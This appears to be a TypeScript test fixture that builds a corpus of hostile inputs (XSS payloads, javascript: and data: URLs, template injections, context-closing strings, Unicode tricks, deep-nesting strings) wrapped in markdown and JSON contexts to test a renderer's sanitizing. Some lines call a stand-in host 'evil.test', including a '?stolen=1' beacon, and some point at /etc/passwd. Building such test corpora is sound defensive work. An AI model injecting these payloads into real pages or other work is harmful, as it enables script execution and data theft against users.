/** Each tries to run something, to load something, or to break out of where it is shown. */
const attempts = [
  // Script tags, whole and broken.
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\t>",
  "</script><script>alert(1)</script>",
  "<script type=module>import('//evil.test/x.js')</script>",
  "<script nonce=bm9uY2U=>alert(1)</script>",
  // Event attributes.
  '<img src=x onerror="alert(1)">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  "<body onload=alert(1)>",
  '"><svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<div style=animation-name:x onanimationstart=alert(1)>",
  // Frames, objects, documents.
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<iframe src=javascript:alert(1)>",
  "<object data=data:text/html,<script>alert(1)</script>>",
  "<embed src=//evil.test/x.swf>",
  "<base href=//evil.test/>",
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  "<link rel=stylesheet href=//evil.test/x.css>",
  "<form action=//evil.test><input type=submit></form>",
  "<portal src=//evil.test>",
  // Addresses.
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "\u0001javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "command:workbench.action.terminal.new",
  "vscode://file/etc/passwd",
  "file:///etc/passwd",
  "//evil.test/x.png",
  "https://evil.test/x.png?stolen=1",
  // SVG and MathML.
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  "<svg><set attributeName=href to=javascript:alert(1)>",
  "<svg><foreignObject><iframe src=//evil.test></foreignObject></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
  // Templates.
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "<%= alert(1) %>",
  "#{alert(1)}",
  "<!--?lit$1$-->",
  "<template shadowrootmode=open><script>alert(1)</script></template>",
  "$(alert)",
  "$(zap) {0} {1}",
  // Style.
  "<style>*{display:none}</style>",
  "<div style=background:url(//evil.test/x.png)>",
  "}*{background:url(//evil.test)}",
  "@import '//evil.test/x.css';",
  "expression(alert(1))",
  // Closing what it stands in.
  "</code></pre></div></main><h1>escaped</h1>",
  "--><script>alert(1)</script><!--",
  "]]><script>alert(1)</script>",
  '"}]}</script><script>alert(1)</script>',
  '\\"}],"type":"ready"}',
  "</textarea></title><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#x3C;img src=x onerror=alert(1)&#x3E;",
  // Unicode.
  "\u202e<script>alert(1)</script>\u202c",
  "\ud800<script>\udfff",
  "\u0000<script>alert(1)</script>",
  "\ufeff\u200b<img src=x onerror=alert(1)>",
  "＜script＞alert(1)＜/script＞",
  "Z\u0351\u036b\u0343\u036a".repeat(20),
  "\u2066\u2067\u2068\u2069\u200f<b>",
];

/** Where an attempt stands: as it is, and in what markdown or JSON would make something of. */
const places: readonly ((attempt: string) => string)[] = [
  (attempt) => attempt,
  (attempt) => `[click me](${attempt})`,
  (attempt) => `![picture](${attempt} "${attempt}")`,
  (attempt) =>
    `Text <${attempt}> and \`${attempt}\`\n\n> ${attempt}\n\n\`\`\`${attempt}\n${attempt}`,
];

/** What only makes sense on its own. */
const more = [
  "[x]: javascript:alert(1)\n\n[x]",
  "[a](<javascript:alert(1)>)",
  "[a](java&#115;cript:alert(1))",
  "[a](javascript&colon;alert(1))",
  "<javascript:alert(1)>",
  "![](https://evil.test/x.png)![](//evil.test/y.png)",
  "[![](https://evil.test/x.png)](javascript:alert(1))",
  `${"[".repeat(300)}x${"](y)".repeat(300)}`,
  `${"> ".repeat(500)}deep`,
  "*".repeat(2000),
  `<${"a".repeat(3000)} onerror=alert(1)>`,
  "__proto__",
  "constructor",
];

export const hostileTexts: readonly string[] = [
  ...attempts.flatMap((attempt) => places.map((place) => place(attempt))),
  ...more,
];
